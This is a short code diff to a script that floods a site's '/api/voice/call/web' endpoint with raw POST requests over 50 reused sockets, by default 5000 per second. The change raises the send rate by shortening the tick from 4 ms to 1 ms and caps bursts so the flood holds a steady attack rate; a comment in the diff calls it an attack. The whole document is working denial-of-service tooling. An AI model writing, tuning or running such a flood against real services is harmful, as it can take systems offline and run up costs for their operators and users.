@@ -8,7 +8,7 @@ import { openSocket } from "../../support/raw-socket";
 const [, , site = "", perSecond = "5000"] = process.argv;
 const CONNECTIONS = 50;
 /** Milliseconds between two goes. */
-const TICK = 4;
+const TICK = 1;
 const POST = [
   "POST /api/voice/call/web HTTP/1.1",
   `Host: ${new URL(site).host}`,
@@ -40,9 +40,12 @@ const sockets = Array.from({ length: CONNECTIONS }, open);
 setPriority(10);
 const started = performance.now();
 let next = 0;
+/** In one go, after one that came late: a burst of hundreds would be another attack than a rate. */
+const most = Math.ceil((2 * TICK * Number(perSecond)) / 1000);
 setInterval(() => {
   const due = ((performance.now() - started) / 1000) * Number(perSecond);
-  for (; flood.sent < due; flood.sent++) {
+  const until = Math.min(due, flood.sent + most);
+  for (; flood.sent < until; flood.sent++) {
     next = (next + 1) % CONNECTIONS;
     if (sockets[next]?.destroyed) sockets[next] = open();
     sockets[next]?.write(POST);
